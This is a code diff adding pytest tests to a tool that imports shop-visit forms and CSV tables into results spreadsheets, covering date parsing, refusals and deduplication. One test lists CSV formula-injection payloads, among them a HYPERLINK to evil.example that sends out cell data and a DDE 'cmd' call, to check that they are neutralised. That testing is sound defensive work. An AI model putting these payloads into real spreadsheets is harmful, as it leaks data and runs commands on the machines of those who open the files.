@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 from pikepdf import Array, Dictionary, Name, String
 
 from handbook.results.answer import ANSWERS, COLUMNS, IMPRESSIONS
-from handbook.system.spreadsheet import unguarded
+from handbook.system.spreadsheet import is_guarded, unguarded
 from handbook.words import words_in
 from tests.conftest import Run, replace
 from tests.drop_in import TODAY
@@ -234,6 +234,110 @@ def test_a_file_that_is_there_is_only_made_longer(
     run = handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | {"return": "yes"}))
     assert run.status == 1
     assert "It has no column “place”." in run.err
+
+
+def refused(folder: Path, *files: Path) -> list[str]:
+    """What is said of files of which none is entered."""
+    run = imported(folder, *files)
+    assert run.refused
+    assert not (folder / "results").exists()
+    return [f"{one.why.message.said(ENGLISH)} → {one.why.cure.said(ENGLISH)}" for one in run.refused]
+
+
+@pytest.mark.parametrize(
+    ("answers", "sentence"),
+    [
+        ({"date": "2062-11-20"}, "The day 2062-11-20 is still to come; today is 2026-11-21."),
+        ({"date": "1026-11-20"}, "The day 1026-11-20 is too long ago to be meant."),
+        ({"date": "03/04/2026"}, "“03/04/2026” can be two days: 2026-03-04 or 2026-04-03."),
+        ({"date": "2026-W01-1"}, "“2026-W01-1” is not a date."),
+        ({"hour": "25"}, "“25” is not an hour."),
+        ({"hour": "+44"}, "“+44” is not an hour."),
+        ({"note:thank-giver": "x" * 200_000}, f"“{'x' * 100}…” has 200,000 characters, and may have 32,767 at most."),
+    ],
+)
+def test_what_only_the_shopper_can_mend_is_said_to_whoever_can_ask(
+    tmp_path: Path, inbox: Callable[..., Path], answers: dict[str, str], sentence: str
+) -> None:
+    """A day to come, an hour that is none, a note that no table could hold: with whom to ask, and nothing is entered."""
+    (said,) = refused(tmp_path, inbox("one.pdf", VISIT | ANSWERED | answers))
+    assert said.startswith(sentence)
+    assert said.endswith("Whoever made the visit can mend it in the form, save it, and send it again.")
+
+
+DATES = [
+    "2026-10-01", "1 October 2026", "1st Oct 2026", "October 1, 2026", "Thursday, 1 October 2026", "2026/10/01", "2026-10-1", "2026.10.01",
+    "2026‑10‑01", "2026–10–01", "２０２６-１０-０１", "2026年10月1日", "٢٠٢٦-١٠-٠١", " 2026 - 10 - 01 ".replace(" - ", "-"),
+]  # fmt: skip
+
+
+def test_a_day_and_an_hour_are_taken_as_people_write_them(tmp_path: Path) -> None:
+    """As long as only one can be meant, whatever the keyboard; results have each in one way, so that they are one visit."""
+    header = "date,scorecard,hour,item,answer\n"
+    rows = "".join(f'"{day}",shop-visit,{hour},thank-giver,yes\n' for day in DATES for hour in ("14", "14:30", "2 pm"))
+    table = tmp_path / "visits.csv"
+    table.write_text(header + rows + "31/03/2026,shop-visit,,thank-giver,no\n", "utf-8")
+    assert not imported(tmp_path, table).refused
+    rows_entered = rows_in(tmp_path / "results" / "shop-visit-2026.csv")
+    assert [(row["date"], row["hour"]) for row in rows_entered] == [("2026-10-01", "14"), ("2026-03-31", "")]
+
+
+def test_a_table_is_entered_by_the_rules_of_results_and_once(tmp_path: Path) -> None:
+    """Visit by visit, in the file of its scorecard and year; a place is the same however it is typed."""
+    table, again = tmp_path / "a.csv", tmp_path / "again.csv"
+    header = "place,date,scorecard,item,answer,note,visit,seconds\n"
+    rows = 'Café,2026-10-01,shop-visit,thank-giver,yes,"two\nlines",a,9\nCafé,2025-10-01,doorstep-visit,return,no,,,\n'
+    table.write_text(header + rows, "utf-8")
+    again.write_text(header + rows.replace("Café", "CAFE\u0301").replace("Two", "two"), "utf-8")
+    assert len(imported(tmp_path, table).new) == 1
+    assert sorted(path.name for path in (tmp_path / "results").iterdir()) == [
+        "doorstep-visit-2025.csv",
+        "shop-visit-2026.csv",
+    ]
+    assert imported(tmp_path, table, again).known == [table, again]
+    (row,) = rows_in(tmp_path / "results" / "shop-visit-2026.csv")
+    assert (row["place"], row["note"], row["visit"], row["seconds"]) == ("Café", "two lines", "a", "9")
+
+
+def test_a_table_that_is_wrong_is_refused_at_its_line(tmp_path: Path) -> None:
+    """As it would be in the results, and with all that is wrong with it."""
+    table = tmp_path / "a.csv"
+    table.write_text(
+        "date,scorecard,item,answer\n2026-10-01,shop-visit,thank-giver,yes\n2026-10-01,shop-visit,thank-giver,no\n"
+    )
+    run = imported(tmp_path, table)
+    assert f"{table}, line 3: “thank-giver” is answered for this visit already" in run.said(ENGLISH)
+    table.write_bytes("date;scorecard\n".encode("utf-16"))
+    assert "The file is in UTF-16" in refused(tmp_path, table)[0]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "＝1+1",
+    "“=1+1",
+    "a;=1+1",
+    "'=1",
+]
+
+
+def test_what_a_stranger_typed_runs_in_no_spreadsheet(tmp_path: Path, inbox: Callable[..., Path]) -> None:
+    """In whichever field; what is read again is what was typed, and the checker is content with it."""
+    forms = [
+        inbox(f"{number}.pdf", VISIT | {"place": text, "thank-giver": "yes", "note:thank-giver": text})
+        for number, text in enumerate(HOSTILE)
+    ]
+    assert not imported(tmp_path, *forms).refused
+    (path,) = (tmp_path / "results").iterdir()
+    cells = [cell for row in rows_in(path) for cell in (row["place"], row["note"])]
+    assert [unguarded(cell) for cell in cells[::2]] == [unguarded(cell) for cell in cells[1::2]] == HOSTILE
+    assert not [
+        cell for cell in cells if not is_guarded(cell) or cell.lstrip("“").startswith(("=", "+", "-", "@", "＝"))
+    ]
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    assert imported(tmp_path, *forms).known == forms
 
 
 def packed(unpacked: bytes, times: int) -> bytes:
